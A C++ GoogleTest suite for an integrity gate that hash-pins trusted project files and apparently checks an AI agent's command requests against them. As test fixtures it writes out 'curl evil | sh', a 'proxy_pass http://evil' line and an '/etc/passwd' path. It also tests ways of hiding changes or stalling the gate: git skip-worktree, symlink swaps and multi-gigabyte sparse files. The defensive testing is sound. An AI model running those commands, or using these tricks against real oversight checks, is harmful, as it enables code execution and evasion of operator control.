#include "common/integrity_gate.hpp"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>
#include <filesystem>

#include "common/sha256.hpp"
#include "tests/support/files.hpp"

namespace hb::exec {

using common::FileState;
using common::GateReport;
using common::observe_pinned;
using common::Observed;
using common::Resolver;
using common::sha256_hex;

namespace {

namespace fs = std::filesystem;

const std::string kStack = "#!/bin/sh\nexec podman-compose \"$@\"\n";
const std::string kCompose = "services:\n  api:\n    build: .\n  db:\n    image: postgres\n";
const std::string kProxy = "server { listen 80; }\n";

// A real git work tree with a committed TCB, pinned the way install pins it.
class GateCheck : public ::testing::TestWithParam<Resolver> {
  protected:
    void SetUp() override {
        t.write("stack", kStack);
        t.write("compose.yaml", kCompose);
        t.write("conf/proxy.conf", kProxy);
        t.write("README", "not pinned\n");
        git("init -q");
        git("add -A");
        git("commit -q -m initial");
        pins = {{"stack", sha256_hex(kStack)},
                {"compose.yaml", sha256_hex(kCompose)},
                {"conf/proxy.conf", sha256_hex(kProxy)},
                {".env", std::nullopt}};
    }

    // Test code only: the executor itself never runs a shell.
    void git(const std::string& args) const {
        const std::string cmd = "git -C " + t.path() +
                                " -c user.name=t -c user.email=t@example.invalid"
                                " -c init.defaultBranch=main " +
                                args + " >/dev/null 2>&1";
        ASSERT_EQ(std::system(cmd.c_str()), 0) << cmd;
    }
    // True when `git status` shows nothing: the change is hidden from git.
    bool git_sees_nothing() const {
        const std::string cmd =
            "test -z \"$(git -C " + t.path() + " status --porcelain --untracked-files=no)\"";
        return std::system(cmd.c_str()) == 0;
    }

    GateReport check() const { return check_tcb(t.path(), pins, GetParam()); }

    void expect_refused(const std::string& path, const std::string& problem) const {
        const GateReport r = check();
        ASSERT_FALSE(r.passed());
        ASSERT_EQ(r.problems.size(), 1u) << r.detail();
        EXPECT_EQ(r.problems[0].path, path);
        EXPECT_NE(r.problems[0].problem.find(problem), std::string::npos) << r.problems[0].problem;
        EXPECT_NE(r.detail().find(path + " " + problem), std::string::npos) << r.detail();
        EXPECT_NE(r.detail().find("hostbridge approve"), std::string::npos) << r.detail();
    }

    test::TempDir t;
    std::vector<TcbPin> pins;
};

TEST_P(GateCheck, UnchangedPasses) {
    const GateReport r = check();
    EXPECT_TRUE(r.passed()) << r.detail();
    EXPECT_EQ(r.detail(), "");
}

TEST_P(GateCheck, UncommittedChange) {
    t.write("compose.yaml", kCompose + "  evil:\n    image: x\n");
    expect_refused("compose.yaml", "changed since it was approved");
}

TEST_P(GateCheck, CommittedChange) {
    t.write("stack", kStack + "curl evil | sh\n");
    git("commit -q -am sneaky");
    ASSERT_TRUE(git_sees_nothing());
    expect_refused("stack", "changed since it was approved");
}

TEST_P(GateCheck, SkipWorktreeHidesNothing) {
    git("update-index --skip-worktree stack");
    t.write("stack", kStack + "# hidden\n");
    ASSERT_TRUE(git_sees_nothing());
    expect_refused("stack", "changed since it was approved");
}

TEST_P(GateCheck, AssumeUnchangedHidesNothing) {
    git("update-index --assume-unchanged conf/proxy.conf");
    t.write("conf/proxy.conf", kProxy + "location / { proxy_pass http://evil; }\n");
    ASSERT_TRUE(git_sees_nothing());
    expect_refused("conf/proxy.conf", "changed since it was approved");
}

TEST_P(GateCheck, SymlinkSwappedInForAFileWithTheSameContent) {
    t.write("elsewhere/stack", kStack);
    fs::remove(t.path("stack"));
    fs::create_symlink(t.path("elsewhere/stack"), t.path("stack"));
    expect_refused("stack", "is a symlink");
}

TEST_P(GateCheck, RelativeSymlinkInsideTheProject) {
    t.write("stack.real", kStack);
    fs::remove(t.path("stack"));
    fs::create_symlink("stack.real", t.path("stack"));
    expect_refused("stack", "is a symlink");
}

TEST_P(GateCheck, SymlinkSwappedInForAParentDirectory) {
    fs::rename(t.path("conf"), t.path("conf.real"));
    fs::create_directory_symlink(t.path("conf.real"), t.path("conf"));
    expect_refused("conf/proxy.conf", "is a symlink");
}

TEST_P(GateCheck, DeletedFile) {
    fs::remove(t.path("compose.yaml"));
    expect_refused("compose.yaml", "is missing");
}

TEST_P(GateCheck, FilePinnedAbsentAppears) {
    t.write(".env", "SECRET=1\n");
    expect_refused(".env", "exists but was pinned as absent");
}

TEST_P(GateCheck, EmptyFilePinnedAbsentAppears) {
    t.write(".env", "");
    expect_refused(".env", "exists but was pinned as absent");
}

TEST_P(GateCheck, DanglingSymlinkWherePinnedAbsent) {
    fs::create_symlink("/nonexistent/target", t.path(".env"));
    expect_refused(".env", "is a symlink");
}

// Issue 45: `truncate -s 4G .env` costs the agent nothing; the gate hashed
// it whole on every command request (30 s each). Pinned absent, it is
// refused for being there, and never read.
TEST_P(GateCheck, ASparseFilePinnedAbsentIsRefusedWithoutBeingRead) {
    t.write(".env", "");
    fs::resize_file(t.path(".env"), 4ull << 30);
    const test::ReadWatch watch(t.path(".env"));
    expect_refused(".env", "exists but was pinned as absent");
    EXPECT_FALSE(watch.read_since());
}

TEST_P(GateCheck, ASparsePinnedFileIsRefusedWithoutBeingRead) {
    fs::resize_file(t.path("compose.yaml"), 1u << 20);  // a hole after its text
    const test::ReadWatch watch(t.path("compose.yaml"));
    expect_refused("compose.yaml", "is a sparse file (1048576 bytes long, a hole from byte ");
    EXPECT_FALSE(watch.read_since());
}

TEST_P(GateCheck, APinnedFileOverTheBoundIsRefusedWithoutBeingRead) {
    // Dense, one byte past the bound, and sparse far past it.
    t.write("compose.yaml", std::string(common::kMaxPinnedBytes + 1, '#'));
    fs::resize_file(t.path("stack"), 4ull << 30);
    const test::ReadWatch compose(t.path("compose.yaml"));
    const test::ReadWatch stack(t.path("stack"));
    const GateReport r = check();
    ASSERT_EQ(r.problems.size(), 2u) << r.detail();
    EXPECT_EQ(r.problems[0].path, "stack");
    EXPECT_EQ(r.problems[0].problem,
              "is too large to be a pinned file (4294967296 bytes, over the 16777216 a pinned "
              "file may hold); not read");
    EXPECT_EQ(r.problems[1].path, "compose.yaml");
    EXPECT_EQ(r.problems[1].problem,
              "is too large to be a pinned file (16777217 bytes, over the 16777216 a pinned "
              "file may hold); not read");
    EXPECT_FALSE(compose.read_since());
    EXPECT_FALSE(stack.read_since());
    // At the bound it is read, and hashed as ever.
    t.write("compose.yaml", std::string(common::kMaxPinnedBytes, '#'));
    t.write("stack", kStack);
    const test::ReadWatch read(t.path("compose.yaml"));
    expect_refused("compose.yaml", "changed since it was approved");
    EXPECT_TRUE(read.read_since());
}

TEST_P(GateCheck, FifoInPlaceOfAPinnedFileDoesNotBlock) {
    fs::remove(t.path("stack"));
    ASSERT_EQ(::mkfifo(t.path("stack").c_str(), 0600), 0);
    expect_refused("stack", "is not a regular file");
}

TEST_P(GateCheck, DirectoryInPlaceOfAPinnedFile) {
    fs::remove(t.path("stack"));
    fs::create_directory(t.path("stack"));
    expect_refused("stack", "is not a regular file");
}

TEST_P(GateCheck, FileInPlaceOfAParentDirectory) {
    fs::remove_all(t.path("conf"));
    t.write("conf", "a file now\n");
    expect_refused("conf/proxy.conf", "is not a regular file");
}

TEST_P(GateCheck, EveryProblemIsListed) {
    t.write("stack", "changed\n");
    fs::remove(t.path("compose.yaml"));
    t.write(".env", "X=1\n");
    const GateReport r = check();
    ASSERT_EQ(r.problems.size(), 3u) << r.detail();
    EXPECT_EQ(r.detail(),
              "stack changed since it was approved (sha256 " +
                  sha256_hex("changed\n").substr(0, 12) + "..., approved " +
                  sha256_hex(kStack).substr(0, 12) +
                  "...); compose.yaml is missing; .env exists but was pinned as absent; fix: "
                  "check the change, then run `hostbridge approve`");
}

TEST_P(GateCheck, PinsThatEscapeTheProjectAreRefused) {
    for (const std::string bad : {"../outside", "/etc/passwd", "conf/../stack", "./stack", "",
                                  "conf//proxy.conf", "conf/"}) {
        pins = {{bad, std::nullopt}};
        const GateReport r = check();
        ASSERT_EQ(r.problems.size(), 1u) << bad;
        EXPECT_NE(r.problems[0].problem.find("not a plain path"), std::string::npos) << bad;
    }
}

TEST_P(GateCheck, MissingProjectDirFailsEveryPin) {
    const GateReport r = check_tcb(t.path("gone"), pins, GetParam());
    ASSERT_EQ(r.problems.size(), pins.size());
    EXPECT_NE(r.problems[0].problem.find("cannot be opened"), std::string::npos);
}

TEST_P(GateCheck, ObservePinnedHashesARegularFile) {
    const int dir = ::open(t.path().c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    ASSERT_GE(dir, 0);
    const Observed o = observe_pinned(dir, "conf/proxy.conf", GetParam());
    EXPECT_EQ(o.state, FileState::Regular);
    EXPECT_EQ(o.sha256, sha256_hex(kProxy));
    EXPECT_EQ(observe_pinned(dir, ".env", GetParam()).state, FileState::Absent);
    EXPECT_EQ(observe_pinned(dir, "nodir/.env", GetParam()).state, FileState::Absent);
    ::close(dir);
}

INSTANTIATE_TEST_SUITE_P(IntegrityGate, GateCheck,
                         ::testing::Values(Resolver::Openat2, Resolver::ComponentWise),
                         [](const auto& param_info) {
                             return param_info.param == Resolver::Openat2 ? "openat2"
                                                                          : "component_wise";
                         });

}  // namespace
}  // namespace hb::exec
